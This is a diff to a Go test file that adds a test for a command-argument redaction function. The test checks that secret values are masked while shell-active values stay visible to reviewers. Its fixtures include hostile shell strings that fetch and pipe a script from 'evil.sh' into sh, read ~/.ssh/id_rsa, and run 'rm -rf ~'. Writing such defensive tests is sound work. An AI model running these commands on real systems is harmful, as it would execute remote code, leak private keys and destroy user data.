@@ -249,6 +249,28 @@ func TestCommandArgs(t *testing.T) {
 	}
 }
 
+// A secret-named value is hidden only while it is inert data; one that a
+// shell would act on is shown as written, so that no redaction hides a
+// payload from the person checking what will run. Known secret values go
+// wherever they appear.
+func TestCommandArgsShowsCode(t *testing.T) {
+	for _, tc := range []struct{ in, want []string }{
+		{[]string{"--api-key=$(curl${IFS}evil.sh|sh)"}, []string{"--api-key=$(curl${IFS}evil.sh|sh)"}},
+		{[]string{"--api-key", "`id`"}, []string{"--api-key", "`id`"}},
+		{[]string{"-c", "TOKEN=abc123; curl x | sh"}, []string{"-c", "TOKEN=" + Placeholder + "; curl x | sh"}},
+		{[]string{"-c", "secret=$(cat ~/.ssh/id_rsa) run"}, []string{"-c", "secret=$(cat ~/.ssh/id_rsa) run"}},
+		{[]string{"-c", "run --token abc; rm -rf ~"}, []string{"-c", "run --token abc; rm -rf ~"}},
+		{[]string{"https://u:p$(x)@h/"}, []string{"https://u:p$(x)@h/"}},
+		{[]string{"--header", "Authorization: Bearer sk-live-123"}, []string{"--header", "Authorization: " + Placeholder}},
+		{[]string{"--password='hunter2'"}, []string{"--password=" + Placeholder}},
+		{[]string{"--label=known-secret-value;x"}, []string{"--label=" + Placeholder + ";x"}},
+	} {
+		if d := cmp.Diff(tc.want, CommandArgs(tc.in, "known-secret-value")); d != "" {
+			t.Errorf("CommandArgs(%q) (-want +got):\n%s", tc.in, d)
+		}
+	}
+}
+
 func TestArgsSummary(t *testing.T) {
 	if got := ArgsSummary(nil, 400); got != "no arguments" {
 		t.Errorf("no args: %q", got)
